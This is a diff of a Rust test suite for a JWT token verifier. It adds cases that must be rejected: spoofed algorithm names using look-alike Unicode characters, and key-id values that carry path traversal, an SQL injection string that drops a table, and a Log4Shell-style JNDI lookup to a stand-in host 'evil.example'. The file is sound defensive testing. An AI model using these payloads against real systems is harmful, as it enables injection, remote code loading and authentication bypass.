@@ -1,9 +1,9 @@
 //! Tokens that would choose their algorithm or their key.
 
+use super::super::mint::{Mint, hmac_sha256, kid, signed_part};
+use super::claims;
+use super::{Algorithm, Reason};
 use super::{Row, headed, headed_by, member, row};
-use crate::jwt::tests::mint::{Mint, hmac_sha256, kid, signed_part};
-use crate::jwt::tests::scene::claims;
-use crate::jwt::{Algorithm, Reason};
 use base64::Engine;
 use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
 use serde_json::{Value, json};
@@ -21,7 +21,21 @@ pub(super) fn algorithms() -> Vec<Row> {
     rows.push(row("alg none with a signature", unsigned("none", "AAAA"), Reason::AlgorithmNone));
     let signed_none = headed(&member("alg", "none"));
     rows.push(row("alg none with a right signature", signed_none, Reason::AlgorithmNone));
-    for alg in ["HS384", "HS512", "RS512", "PS512", "ES384", "ES256K", "Ed448", "es256", "ES256\0", "RSA1_5", "dir"] {
+    for alg in [
+        "HS384",
+        "HS512",
+        "RS512",
+        "PS512",
+        "ES384",
+        "ES256K",
+        "Ed448",
+        "es256",
+        "ES256\0",
+        "RSA1_5",
+        "dir",
+        "ＥＳ256",
+        "nоne",
+    ] {
         rows.push(row(format!("alg {alg:?}"), headed(&member("alg", alg)), Reason::AlgorithmUnknown));
     }
     rows.push(row("no alg", headed(&json!({"typ": "JWT"})), Reason::AlgorithmMissing));
@@ -104,6 +118,11 @@ pub(super) fn kids() -> Vec<Row> {
         "http://evil.example/key",
         "0",
         "p256\0",
+        "\u{440}256",
+        "p256/../p256",
+        "file:///dev/null",
+        "p256'; DROP TABLE keys; --",
+        "${jndi:ldap://evil.example/a}",
     ] {
         rows.push(row(format!("kid {kid:?}"), headed(&member("kid", kid)), Reason::KidUnknown));
     }
